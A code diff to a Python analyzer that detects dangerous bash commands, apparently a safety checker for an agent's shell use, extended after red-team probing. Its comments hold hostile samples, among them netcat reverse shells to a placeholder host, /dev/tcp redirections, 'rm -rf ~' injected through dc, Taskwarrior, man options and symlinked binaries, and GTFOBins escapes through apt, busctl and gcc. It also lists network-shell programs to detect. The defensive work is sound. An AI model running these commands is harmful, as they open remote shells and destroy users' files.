@@ -719,6 +719,17 @@ def _parse_lines(text: str):
             if not retry.root_node.has_error:
                 source, tree = fixed, retry
                 text = source.decode("utf-8", "surrogatepass")
+    if b"0<" in source:
+        # (probe round 35, redteam35) bash's 0<FILE, 0<&N, 0<<EOF after a command's words
+        # (nc HOST PORT 0</tmp/p | sh, a reverse shell through a fifo): the grammar reads the 0
+        # as one more word; for an input redirection 0 is the default descriptor, so the 0
+        # is blanked and the text parsed again (0>FILE stays refused: ERR_FD_WORD)
+        fixed = _fd0_inputs(source, tree.root_node)
+        if fixed is not None:
+            retry = _parser().parse(fixed)
+            if not retry.root_node.has_error:
+                source, tree = fixed, retry
+                text = source.decode("utf-8", "surrogatepass")
     if b"<>" in source and tree.root_node.has_error:
         # (probe round 34, residuals36) bash's N<>FILE opens FILE for reading and writing
         # (exec 3<>/dev/tcp/host/80), an operator the grammar lacks: read as N>>FILE, a
@@ -744,6 +755,30 @@ def _parse_lines(text: str):
         text = source.decode("utf-8", "surrogatepass")
         tree = _parser().parse(source)
     raise _Unparseable(ERR_SYNTAX)   # still joining lines: the tree is not trusted
+
+
+def _fd0_inputs(source: bytes, root) -> bytes | None:
+    """The source with each 0 the grammar took as a command's last word, written against an
+    input redirection after it (``cat 0</tmp/p``, ``nc h 1 0<&3``), blanked: None if none."""
+    spots: list[int] = []
+    stack = [root]
+    while stack and len(spots) < 64:
+        node = stack.pop()
+        if node.type == "redirected_statement":
+            body = node.child_by_field_name("body")
+            if body is not None and body.type == "command" and body.children:
+                last = body.children[-1]
+                nxt = body.next_sibling
+                if last.type == "number" and source[last.start_byte:last.end_byte] == b"0" and nxt is not None \
+                        and nxt.start_byte == last.end_byte and source[nxt.start_byte:nxt.start_byte + 1] == b"<":
+                    spots.append(last.start_byte)
+        stack.extend(node.children)
+    if not spots:
+        return None
+    out = bytearray(source)
+    for at in spots:
+        out[at:at + 1] = b" "
+    return bytes(out)
 
 
 # bash's read-write redirection with a descriptor of 1 or more, or {var} (_parse_lines)
@@ -1354,7 +1389,10 @@ _CODE_IN_WORDS = frozenset({
     "dvc",
     # (probe round 33, redteam33) gnuplot's system("CMD"), `CMD` and !CMD; dc's !CMD (the
     # rest of the line, inside a [macro] too: dc -e '[!rm -rf ~]x')
-    "gnuplot", "dc", "fzf"})
+    "gnuplot", "dc", "fzf",
+    # (probe round 35, redteam35; GTFOBins apt-get) apt's -o settings whose value is a shell
+    # line it runs: APT::Update::Pre-Invoke, DPkg::Pre-Invoke, Post-Invoke, Pre-Install-Pkgs
+    "apt", "apt-get", "aptitude"})
 # (probe round 34, residuals35) the programs whose words code_in_words alone reads (their
 # escapes and actions: dc's !CMD, fzf's execute(CMD)); the unknown wrapper's command-line
 # pass (command_line_words, embedded_command_lines) skips them: one pass, same verdicts
@@ -1560,6 +1598,13 @@ for _name, _files in (
                            ".config/mise/conf.d/", "mise/config.toml", ".rtx.toml", "rtx.toml")),
         (("devbox",), ("devbox.json",)),
         (("tox",), ("toxfile.py",)),
+        # (probe round 35, redteam35; GTFOBins apt-get) apt's configuration, whose
+        # DPkg::Pre-Invoke and APT::Update::Pre-Invoke lines it runs through the shell
+        (("apt", "apt-get", "aptitude", "apt-cache"), ("etc/apt/apt.conf", "etc/apt/apt.conf.d/")),
+        # (GTFOBins dstat) dstat's plugins, python run by dstat --NAME
+        (("dstat",), (".dstat/", "share/dstat/")),
+        # (and the programs whose option names a start-up file: _CONFIG_FILE_OPTIONS)
+        (("lftp",), ()),
         (("python", "python3", "pytest", "pip", "pip3", "py.test", "uv", "poetry", "pipenv", "tox", "nox", "mypy",
           "ipython", "jupyter", "flask", "django-admin", "gunicorn", "uvicorn", "celery", "coverage", "pdm",
           "hatch", "ruff", "black", "pylint", "flake8"), _PTH_FILES)):
@@ -1600,6 +1645,20 @@ def _with_argv_lists(body: str) -> str:
     return body + "\n" + "\n".join(lists[:64]) if lists else body
 
 
+# (probe round 35, redteam35) the options that name a configuration or start-up file a
+# program reads and runs what it names (ssh -F's ProxyCommand, apt-get -c's DPkg::Pre-Invoke,
+# tmux -f's run-shell, gdb -x's shell, vim -u's :!, sqlite3 -init's .shell, lftp -f's !):
+# written in the command, its text counts as a start-up file's
+_CONFIG_FILE_OPTIONS = {
+    **dict.fromkeys(("ssh", "scp", "sftp"), ("-F",)),
+    **dict.fromkeys(("apt", "apt-get", "apt-cache"), ("-c", "--config-file")),
+    "tmux": ("-f",), "screen": ("-c",), "gdb": ("-x", "--command", "-ix", "--init-command"),
+    **dict.fromkeys(("vim", "vi", "nvim", "ex", "view", "gvim"), ("-u", "-S")),
+    "sqlite3": ("-init",), **dict.fromkeys(("mysql", "mariadb"), ("--defaults-file", "--defaults-extra-file")),
+    "lldb": ("-s", "--source", "-S", "--source-before-file"), "lftp": ("-f",),
+}
+
+
 def _startup_file(path: str, suffixes: tuple[str, ...]) -> bool:
     for s in suffixes:
         if s.endswith("/"):
@@ -1613,6 +1672,10 @@ def _startup_file(path: str, suffixes: tuple[str, ...]) -> bool:
             if base.endswith(ext) and (head == "~/" + d or head.endswith("/" + d) or head == d):
                 return True
         elif path == "~/" + s or path.endswith("/" + s):
+            return True
+        elif s.startswith(".config/") and path.endswith("/" + s[8:]) and "/" in s[8:]:
+            # (probe round 35, redteam35; GTFOBins tmux) XDG_CONFIG_HOME=DIR moves
+            # ~/.config/X to DIR/X (DIR/tmux/tmux.conf, DIR/git/config)
             return True
     return False
 
@@ -1635,6 +1698,9 @@ _FD_VALUED = frozenset({"--extension", "--type", "--exclude", "--max-depth", "--
                         "--threads", "--color", "--owner", "--changed-within", "--changed-before", "--change-newer-than",
                         "--change-older-than", "--newer", "--older", "--max-results", "--ignore-file",
                         "--path-separator", "--format", "--batch-size", "--and", "--max-buffer-time"})
+# (probe round 35, redteam35) the programs that serve a shell to the network given -e/EXEC:
+# found among an unknown launcher's words, their command line is read as if it ran here
+_NET_SHELL_PROGRAMS = frozenset({"nc", "ncat", "netcat", "nc.traditional", "nc.openbsd", "socat"})
 _PROBED = frozenset({"rm", "dd", "shred", "chmod", "chown", "mv", "find", "wipefs", "mkfs", "mke2fs", "mkswap",
                      "truncate", "tee", "cp", "install", "ln"})
 _NOT_WRAPPERS = frozenset({"git", "man", "apropos", "whatis", "tldr", "help", "info", "ack", "npm", "yarn", "pnpm",
@@ -1811,20 +1877,24 @@ _RSYNC_DELETES = ("delete", "delete-before", "delete-during", "delete-delay", "d
 # library calls that delete a tree, with a literal path
 _TREE_DELETE_RE = re.compile(
     r"""\b(?:rmtree|rm_rf|rm_r|remove_tree|rmSync|rimraf(?:\.sync)?|removeSync|emptyDirSync|remove_dir_all|"""
-    r"""rmdirSync|RemoveAll|deleteRecursively|delete_tree)\s*\(\s*(?:[a-zA-Z_]+\s*=\s*)?(['"])(?P<path>[^'"]*)\1""")
+    r"""rmdirSync|RemoveAll|deleteRecursively|delete_tree)!?\s*\(\s*(?:[a-zA-Z_]+\s*=\s*)?(['"])(?P<path>[^'"]*)\1""")
 # calls that delete a tree only when told to recurse, with the path a literal or the home
 # in the language's own words (probe round 32, residuals33): R's unlink(p, recursive =
 # TRUE), Emacs Lisp's (delete-directory p t), Julia's rm(p; recursive=true), Common Lisp's
 # (uiop:delete-directory-tree p ...)
 _HOME_FORMS = (r"""path\.expand\(\s*["']~/?["']\s*\)|Sys\.getenv\(\s*["']HOME["']\s*\)|normalizePath\(\s*["']~/?["']\s*\)|"""
                r"""homedir\(\)|\(\s*getenv\s+"HOME"\s*\)|\(\s*expand-file-name\s+"~/?"\s*\)|"""
-               r"""\(\s*user-homedir-pathname\s*\)|ENV\[\s*"HOME"\s*\]""")
+               r"""\(\s*user-homedir-pathname\s*\)|ENV\[\s*"HOME"\s*\]|"""
+               # (probe round 35, redteam35) Elixir's System.user_home/0
+               r"""System\.user_home!?(?:\(\s*\))?""")
 _TREE_DELETE_FLAG_RE = re.compile(
     rf"""\bunlink\s*\(\s*(?:x\s*=\s*)?(?:(['"])(?P<r>[^'"]*)\1|(?P<rh>{_HOME_FORMS}))\s*,(?:[^()]|\([^()]*\))*?"""
     rf"""\brecursive\s*=\s*T(?:RUE)?\b|"""
     rf"""\(\s*delete-directory\s+(?:"(?P<e>[^"]*)"|(?P<eh>{_HOME_FORMS}))\s+(?:t|'t|:recursive\s+t)\b|"""
     rf"""\(\s*(?:uiop:)?delete-directory-tree\s+(?:#p)?(?:"(?P<l>[^"]*)"|(?P<lh>{_HOME_FORMS}))|"""
     rf"""\brm\s*\(\s*(?:"(?P<j>[^"]*)"|(?P<jh>{_HOME_FORMS}))\s*[,;](?:[^()]|\([^()]*\))*?\brecursive\s*=\s*true\b|"""
+    # (probe round 35, redteam35) Elixir's File.rm_rf/1 and rm_rf!/1: a tree, always
+    rf"""\bFile\.rm_rf!?\s*\(\s*(?:"(?P<x>[^"]*)"|(?P<xh>{_HOME_FORMS}))\s*\)|"""
     # (Tcl's file delete -force: a tree; ~ is the home in Tcl 8, $env(HOME) and [file home])
     rf"""\bfile\s+delete\s+-force\s+(?:--\s+)?(?:"(?P<t>[^"$\[]*)"|(?P<th>\$(?:::)?env\(HOME\)|\[\s*file\s+home\s*\])|(?P<t2>[^\s"$\[;]+))""")
 # Common Lisp's run-program "prog" '("arg" ...) / (list "arg" ...), or the whole argv as a list
@@ -1834,7 +1904,7 @@ _LISP_ARGV_RE = re.compile(
 # calls that run an argv given as a list of string literals
 _ARGV_SINK_RE = re.compile(
     r"""\b(?:subprocess\.(?:run|call|check_call|check_output|Popen)|Popen|execv[pe]*|spawnSync|spawn|execFileSync|"""
-    r"""execFile|os\.exec\w*|Command::new|System\.cmd)\s*\(\s*(?P<argv>\[|(['"])([^'"]*)\2\s*,\s*\[)""")
+    r"""execFile|os\.exec\w*|Command::new|System\.cmd|pcntl_exec|proc_open)\s*\(\s*(?P<argv>\[|(['"])([^'"]*)\2\s*,\s*\[)""")
 # a runner given no literal: its command is only known at run time
 _SINK_OF_NAME = re.compile(r"""\b(?:os\.(?:system|popen|exec\w*|spawn\w*|posix_spawnp?)|subprocess\.(?:run|call|check_call|"""
                            r"""check_output|Popen|getoutput|getstatusoutput)|Popen|execSync|execFileSync|spawnSync|"""
@@ -2587,7 +2657,14 @@ _PROGRAM_VARS = frozenset({"BROWSER", "GH_BROWSER", "EDITOR", "VISUAL", "GIT_EDI
                            "RUSTC_WORKSPACE_WRAPPER", "CARGO_BUILD_RUSTC", "CARGO_BUILD_RUSTC_WRAPPER",
                            "CMAKE_C_COMPILER_LAUNCHER", "CMAKE_CXX_COMPILER_LAUNCHER",
                            # the shell npm and yarn run scripts with
-                           "NPM_CONFIG_SCRIPT_SHELL", "npm_config_script_shell", "YARN_SCRIPT_SHELL"})
+                           "NPM_CONFIG_SCRIPT_SHELL", "npm_config_script_shell", "YARN_SCRIPT_SHELL",
+                           # (probe round 35, redteam35: GTFOBins borg, autoconf) the remote shells
+                           # and password commands of backup and version-control tools, the
+                           # autotools' programs (AUTOM4TE=/tmp/x autoconf runs it)
+                           "BORG_RSH", "BORG_PASSCOMMAND", "BORG_NEW_PASSCOMMAND", "RESTIC_PASSWORD_COMMAND",
+                           "RCLONE_PASSWORD_COMMAND", "SVN_SSH", "HGEDITOR", "P4EDITOR", "P4DIFF", "P4MERGE",
+                           "AUTOM4TE", "AUTOCONF", "AUTOHEADER", "AUTOMAKE", "ACLOCAL", "AUTOPOINT",
+                           "LIBTOOLIZE", "M4"})
 # cargo's per-target runner and linker (CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER='…' cargo
 # test runs it with each test binary; probe round 30, redteam30)
 _CARGO_PROGRAM_VAR = re.compile(r"CARGO_TARGET_[A-Z0-9_]+_(?:RUNNER|LINKER)")
@@ -2609,7 +2686,9 @@ _KNOWN_VAR_PROGRAMS = frozenset({
     "wasmtime", "wasmer", "wasm-bindgen-test-runner", "valgrind", "wine", "wine64",
     # (probe round 31, differential4: the other compilers a CC names, a password helper that only prints)
     "zig", "tcc", "icx", "icpx", "icc", "icpc", "emcc", "em++", "nvcc", "distcc", "icecc", "gccgo", "xcrun",
-    "echo"})
+    "echo",
+    # (probe round 35, redteam35) the autotools a build's variables name (M4=gm4, ACLOCAL='aclocal -I m4')
+    "aclocal", "autoconf", "autoheader", "automake", "autom4te", "autopoint", "libtoolize", "m4", "gm4"})
 # (a compiler or binutil named for its target or version: x86_64-linux-gnu-gcc, gcc-12, clang++-17)
 _TOOLCHAIN_NAME = re.compile(r"(?:[\w.]+-)*(?:gcc|g\+\+|cc|c\+\+|cpp|clang|clang\+\+|ld|ld\.\w+|ar|as|gfortran|"
                              r"rustc|nm|strip|objcopy)(?:-[\d.]+)?")
@@ -2629,7 +2708,17 @@ _OPTION_ENV = {"LESS": "pager", "SYSTEMD_LESS": "pager", "MORE": "pager", "TAR_O
                # luacheck, a rock's script): code, or @FILE; Erlang's emulator flags read by
                # every erl (rebar3, mix, iex): -eval CODE, -s MOD among them
                "LUA_INIT": "lua", "LUA_INIT_5_1": "lua", "LUA_INIT_5_2": "lua", "LUA_INIT_5_3": "lua",
-               "LUA_INIT_5_4": "lua", "ERL_FLAGS": "erl", "ERL_AFLAGS": "erl", "ERL_ZFLAGS": "erl"}
+               "LUA_INIT_5_4": "lua", "ERL_FLAGS": "erl", "ERL_AFLAGS": "erl", "ERL_ZFLAGS": "erl",
+               # (probe round 35, redteam35) the D-Bus bus addresses every D-Bus client reads:
+               # a unixexec: address runs its program (commands.unixexec_command_lines)
+               "DBUS_SESSION_BUS_ADDRESS": "dbus", "DBUS_SYSTEM_BUS_ADDRESS": "dbus",
+               "DBUS_STARTER_ADDRESS": "dbus",
+               # man's options from the environment (MANOPT='-Hrm\\ -rf\\ ~\\ #': a blank is
+               # escaped by a backslash there); less's lesskey source given as text, whose #env
+               # section sets LESSOPEN/LESSCLOSE/LESS (less 643 and later), and the lesskey files
+               # named (their text unseen here)
+               "MANOPT": "man", "LESSKEY_CONTENT": "lesskey", "LESSKEYIN": "file", "LESSKEY": "file",
+               "LESSKEYIN_SYSTEM": "file", "LESSKEY_SYSTEM": "file"}
 
 
 def _program_var(name: str) -> bool:
@@ -3144,6 +3233,9 @@ class _Analyzer:
         # scripts this command writes (cat > x.sh <<EOF, echo '...' > x.sh): path -> text,
         # analysed as code when a shell then runs that file (bash x.sh)
         self.script_texts: dict[str, str] = {}
+        # (probe round 35, redteam35) a system program linked or copied in this command to a
+        # path (ln -s /bin/rm x, cp /bin/sh git-x): the path, run later in it, is that program
+        self.program_links: dict[str, str] = {}
         self.case_names: set[str] = set()   # command names not in lower case (RM, Curl)
         self.probed: list[str] = []   # code only probe_code read (BashAnalysis.probed)
         # exec > x.sh: the file every later command's output goes to (probe round 29,
@@ -7190,8 +7282,11 @@ class _Analyzer:
         which the program now run reads and whose commands it runs (_STARTUP_FILES), or a
         file named by ssh -F: its destructive patterns count as a just-written recipe's."""
         files = _STARTUP_FILES[name]
+        opts = _CONFIG_FILE_OPTIONS.get(name, ())
         named_cfg = {self.abs_path(_static(argv[k + 1].value)) for k in range(1, min(len(argv) - 1, 24))
-                     if argv[k].exact and argv[k].value == "-F" and name in ("ssh", "scp", "sftp")}
+                     if argv[k].exact and argv[k].value in opts}
+        named_cfg |= {self.abs_path(_static(w.value.split("=", 1)[1])) for w in argv[1:24]
+                      if w.exact and w.value.startswith("--") and w.value.split("=", 1)[0] in opts and "=" in w.value}
         for p, body in list(self.script_texts.items()):
             if ("startup_file", p) in self._seen or not (_startup_file(p, files) or p in named_cfg):
                 continue
@@ -7555,6 +7650,21 @@ class _Analyzer:
                     self.probe_code(m.group(1).replace("\\ ", " ").rstrip("$"), ctx, name)
             elif kind == "code":
                 self.probe_code(v, ctx, name)
+            elif kind == "dbus":
+                for line in C.unixexec_command_lines(v):
+                    self.probe_code(line, ctx, name)
+            elif kind == "file":
+                if v.strip():
+                    self.mark_dynamic()   # (a lesskey file: LESSOPEN set there, unseen)
+            elif kind == "lesskey":
+                for line in re.split(r"\n|\\n", v)[:256]:
+                    m = re.match(r"\s*(LESSOPEN|LESSCLOSE|LESS|MORE)\s*=\s*(.*)", line)
+                    if m and m.group(2).strip():
+                        if m.group(1) in ("LESS", "MORE"):
+                            for bang in re.finditer(r"\+[ \t:]*!(?!=)[ \t]*(.+)", m.group(2)):
+                                self.probe_code(bang.group(1).replace("\\ ", " ").rstrip("$"), ctx, name)
+                        else:
+                            self.probe_code(re.sub(r"^\|\|?-?", "", m.group(2).strip()), ctx, name)
             elif kind == "lua":
                 if v.startswith("@"):
                     self.mark_dynamic()   # (LUA_INIT=@FILE: a file's code, unseen)
@@ -7630,6 +7740,9 @@ class _Analyzer:
         name = _program_name(_basename(v0) if "/" in v0 else v0) if w0_exact else v0
         if w0_exact and "/" in v0:
             self.program_path(v0, name)
+            if self.program_links:
+                # (ln -s /bin/rm x && ./x -rf ~ is rm -rf ~)
+                name = self.program_links.get(self.abs_path(w0) or "", name)
         if (self.fetched or self.fetched_trees) and w0_exact:
             self.check_fetched_run(name, argv, text)
         if env:
@@ -8456,6 +8569,8 @@ class _Analyzer:
                 continue
             if v.startswith("--") and "=" in v:
                 v = v.split("=", 1)[1]
+            elif v.startswith("-o") and name in ("apt", "apt-get", "aptitude"):
+                v = v[2:]   # (apt-get -o'DPkg::Pre-Invoke::=CMD': the setting joined to its option)
             if name in _SCRIPT_CODE_PROGRAMS and not _RUNS_A_COMMAND.search(v):
                 continue   # (AppleScript's or JavaScript's code that runs no command: its strings are data)
             m = _SETTING_KEY.match(v)
@@ -8533,6 +8648,12 @@ class _Analyzer:
             elif hit.startswith("--") or hit in ("foreach", "run") or len(hit) == 2 or hit[-1] in "xX":
                 value = vals[k + 1] if k + 1 < len(vals) else ""
                 k += 1
+            elif hit.startswith("-") and name in C.RUNS_THROUGH_NAMES:
+                # (probe round 35, redteam35) a short option's value joined to it (man -Hsh,
+                # man -Psh, tar -Ish): the text after the option's letter
+                shorts = C.runs_through_shorts(name)
+                at = next((j for j, ch in enumerate(hit[1:], 1) if ch in shorts), len(hit))
+                value = hit[at + 1:]
             else:
                 value = ""
             prog = value.split() + (vals[k + 1:k + 8] if name in ("fd", "fdfind") or hit in ("foreach", "run") else [])
@@ -8627,6 +8748,12 @@ class _Analyzer:
                                          w.value if w.tilde else _sh_quote(w.value) for w in words), ctx, name)
         elif name in _COMMAND_LINE_OPTIONS:
             self.probe_command_line_options(name, vals, ctx)
+        elif name == "task" and "execute" in vals[1:]:
+            # (probe round 35, redteam35; GTFOBins task) Taskwarrior's task execute ARGS...
+            # runs its words joined by blanks through the shell (task execute 'rm -rf ~')
+            rest = vals[vals.index("execute", 1) + 1:]
+            if rest and all(w.exact for w in argv[1:]):
+                self.probe_code(" ".join(rest), ctx, name)
         elif name == "socat":
             # (probe round 33, published7; GTFOBins socat) an EXEC:CMD or SYSTEM:CMD address
             # runs CMD (its options after a comma): socat - EXEC:'rm -rf ~',pty was a network
@@ -8640,7 +8767,11 @@ class _Analyzer:
             # runs through the shell counts as if it ran)
             for v in C.runner_command_lines([v if w.exact else "" for w, v in zip(argv[1:], vals[1:])]):
                 self.probe_code(v, ctx, name)
-        elif lines or (lines is None and not reads_own_grammar(name) and name not in _MESSAGE_PROGRAMS
+        elif lines or (lines is None and not reads_own_grammar(name) and (
+                name not in _MESSAGE_PROGRAMS
+                # ((probe round 35, redteam35) Exim's sendmail -be STRING expands STRING,
+                # ${run{CMD}} included: code, not a message)
+                or (name == "sendmail" and any(v.startswith("-be") for v in vals[1:])))
                        and name not in self.func_bodies and name not in _CODE_WORDS_READ):
             # an unknown program given a whole command line as one word (mytool --run 'rm
             # -rf ~', ./deploy.sh --hook='curl … | sh'): whether it runs it is not known,
@@ -8655,6 +8786,24 @@ class _Analyzer:
                     # -c '!CMD', socat - EXEC:'CMD', -o ProxyCommand='CMD', a string in code
                     # (jrunscript -e 'exec("CMD")', bpftrace -e 'system("CMD")')
                     self.probe_code(inner, ctx, name)
+        if _TOOLCHAIN_NAME.fullmatch(name) and "-wrapper" in vals[1:-1]:
+            # (probe round 35, redteam35; GTFOBins gcc) gcc -wrapper PROG,ARG,...: every
+            # program the driver runs is run as PROG ARG... PROGRAM (the commas are blanks)
+            k = vals.index("-wrapper", 1)
+            if argv[k + 1].exact:
+                self.probe_code(" ".join(_sh_quote(x) if x else "''" for x in vals[k + 1].split(",")[:64]) + " cc1",
+                                ctx, name)
+        if name in C.DBUS_CLIENTS and all(w.exact for w in argv[1:]):
+            line = C.dbus_manager_call(vals[1:])
+            if line is not None:
+                self.probe_code(line, ctx, name)
+        for v in vals[1:17]:
+            if "unixexec:" in v or "UNIXEXEC:" in v.upper():
+                # (probe round 35, redteam35; GTFOBins busctl) a D-Bus address that runs a
+                # program (busctl --address=unixexec:path=/bin/sh,argv1=-c,argv2=CMD,
+                # dbus-send --address=...): its command line counts as if it ran
+                for line in C.unixexec_command_lines(v):
+                    self.probe_code(line, ctx, name)
         for i in range(1, len(argv) - 2):
             if _basename(vals[i]) in C.SHELLS and _SHELL_CODE_FLAG.fullmatch(vals[i + 1]):
                 j = i + 2
@@ -8672,7 +8821,9 @@ class _Analyzer:
             if not w.exact or w.quoted and " " in w.value:
                 continue
             base = _basename(w.value)
-            if base in D.SECURITY_PROGRAMS and i + 1 < len(argv):
+            if (base in D.SECURITY_PROGRAMS or base in _NET_SHELL_PROGRAMS) and i + 1 < len(argv):
+                # ((probe round 35, redteam35) and a netcat or socat among them: rlwrap nc -e
+                # /bin/sh HOST PORT, firejail nc ... is the reverse shell nohup nc ... is)
                 # (probe round 34, residuals35) a security control's program among the words
                 # (nsenter -t 1 -a iptables -F, unshare -r setenforce 0, firejail ufw disable):
                 # its command line as if it ran here
@@ -9470,7 +9621,7 @@ class _Analyzer:
         if not awk and ("unlink" in src or "delete" in src or "rm" in src):
             for m in _TREE_DELETE_FLAG_RE.finditer(src):
                 lit = next((g for g in (m.group("r"), m.group("e"), m.group("l"), m.group("j"), m.group("t"),
-                                        m.group("t2")) if g is not None),
+                                        m.group("t2"), m.group("x")) if g is not None),
                            None)
                 path = self.home if lit is None else self.abs_path(_Word(value=lit, tilde=lit.startswith("~")))
                 kind = self.classify(path) if path else None
@@ -10663,6 +10814,15 @@ class _Analyzer:
                 key, eq, value = v.partition("=")
                 if eq and (_program_var(key) or key in ("PKG_CONFIG", "GCCGO")):
                     self.probe_code(value, ctx, "go")
+                elif eq and key == "GOFLAGS":
+                    # (probe round 35, redteam35) go env -w GOFLAGS=-toolexec=X: every later
+                    # build runs X with each tool (as go build -toolexec X), -exec X each test
+                    for flag in value.split()[:32]:
+                        fkey, feq, fvalue = flag.lstrip("-").partition("=")
+                        if flag.startswith("-") and fkey in ("exec", "toolexec") and feq:
+                            self.probe_code(fvalue, ctx, "go")
+                            if runs_files_as_script(fvalue.split(), binary=True):
+                                self.mark_dynamic()
 
     def fx_npm(self, args, vals, part, ctx, unknown_tail, stdin) -> None:
         self.npm_options(vals)
@@ -11055,6 +11215,16 @@ class _Analyzer:
         if dest is not None:
             self.add_write(self.abs_path(dest), part)
             where = self.abs_path(dest) if dest.exact and not dest.dynamic else None
+            if where is not None and name in ("ln", "cp", "mv", "install") and len(sources) == 1 \
+                    and sources[0].exact and not sources[0].dynamic and len(self.program_links) < 64:
+                src = sources[0].value
+                prog = self.program_links.get(self.abs_path(sources[0]) or "") or (
+                    _program_name(_basename(src)) if _SYSTEM_PROGRAM.fullmatch(src) else None)
+                if prog:
+                    # (probe round 35, redteam35) a program under another name: DEST, or
+                    # DEST/NAME when DEST is a directory
+                    self.program_links[where] = prog
+                    self.program_links[_norm(where + "/" + _basename(src))] = prog
             if name != "ln" and self.contents_into_project(name, args, dest, sources, with_arg):
                 # cp -r /tmp/tpl/. ., rsync -a /tmp/x/ .: files whose names no one sees land
                 # in the project itself (.git/hooks, .claude/settings.json, a CI pipeline),
@@ -11803,6 +11973,14 @@ class _Analyzer:
                 self.git_c_setting(glob[i + 1], ctx, part)
             elif v in ("--exec-path", "--config-env") or v.startswith(("--exec-path=", "--config-env=")):
                 self.mark_dynamic()
+                d = v.split("=", 1)[1] if "=" in v else glob[i + 1] if v == "--exec-path" and i + 1 < len(glob) else None
+                if d is not None and sub and v.startswith("--exec-path") and self.program_links:
+                    # (probe round 35, redteam35; GTFOBins git) git --exec-path=DIR x ARGS runs
+                    # DIR/git-x ARGS: a program linked there in this command is that program
+                    prog = self.program_links.get(self.abs_path(_static(d.rstrip("/") + "/git-" + sub)) or "")
+                    if prog:
+                        self.probe_code(" ".join([_sh_quote(prog)] + [a if re.fullmatch(r"~?[\w./@%+=:,-]*", a) else
+                                                                      _sh_quote(a) for a in sub_args]), ctx, "git")
         # (ext:: in any case: a case-insensitive file system finds git-remote-ext for EXT::,
         # which protocol.ext.allow does not cover; desktop/desktop#22847)
         for i, v in enumerate(glob):
